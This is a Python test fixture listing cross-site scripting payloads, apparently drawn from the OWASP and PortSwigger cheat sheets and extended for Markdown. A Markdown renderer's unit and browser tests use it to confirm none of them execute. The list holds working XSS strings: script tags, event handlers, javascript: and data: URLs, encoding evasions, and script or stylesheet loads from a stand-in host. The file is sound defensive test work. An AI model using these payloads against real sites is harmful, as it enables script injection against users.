"""Known XSS payloads (OWASP XSS filter evasion cheat sheet, PortSwigger's cheat sheet, Markdown
specific ones) that trainer-written Markdown must never turn into running script.

Used by tests/test_markdown.py (every payload through kdcs/markdown.py) and the browser test
tests/e2e/test_sop_core.py (a draft made of them, in the live preview and on the published page).
"""

PAYLOADS: list[str] = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>提交</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import 'https://xss.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<link rel="stylesheet" href="https://xss.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://xss.example/">',
    '<a href="javascript:alert(1)">点我</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<template><img src=x onerror=alert(1)></template>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    # Markdown links and images
    "[点我](javascript:alert(1))",
    "[点我](JaVaScRiPt:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](java\tscript:alert(1))",
    "[点我](&#x6A;avascript:alert(1))",
    "[点我](vbscript:msgbox(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[点我](file:///etc/passwd)",
    '[点我](https://ok.example "a\\" onmouseover=\\"alert(1))',
    "![x](javascript:alert(1))",
    '![x](https://xss.example/x.png" onerror="alert(1))',
    "[a]: javascript:alert(1)\n\n[点我][a]",
    "<javascript:alert(1)>",
    "<https://ok.example/\" onclick=\"alert(1)>",
    # blanks and code
    "{<img src=x onerror=alert(1)>}",
    '{客户称呼"><script>alert(1)</script>}',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
]
